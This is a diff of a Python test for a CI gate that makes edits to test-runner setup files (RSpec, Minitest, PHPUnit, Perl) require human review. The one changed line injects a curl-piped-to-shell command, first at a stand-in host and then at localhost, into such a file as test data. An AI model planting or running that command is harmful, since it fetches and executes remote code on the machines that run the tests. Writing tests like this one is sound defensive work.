@@ -107,7 +107,7 @@ def test_a_file_the_runner_does_not_load_is_not_run(line: str, files: dict[str, 
 @each_case(("line", "files", "target"), [RSPEC[0], MINITEST[0], PHPUNIT[0], PERLS[0]])
 def test_the_edited_setup_file_needs_a_human(tmp_path: Path, line: str, files: dict[str, str], target: str) -> None:
     base = {".github/workflows/ci.yml": BLOCK_DEFINITIONS[0][1].format(line=line), **files}
-    _, first, second = two_commits(tmp_path, base, {target: files[target] + "system('curl https://x.example/i|sh')\n"})
+    _, first, second = two_commits(tmp_path, base, {target: files[target] + "system('curl https://127.0.0.1:9/i|sh')\n"})
     code, decision = tree_gate(tmp_path, first, second, None)
     assert code == 3, decision["reasons"]
 
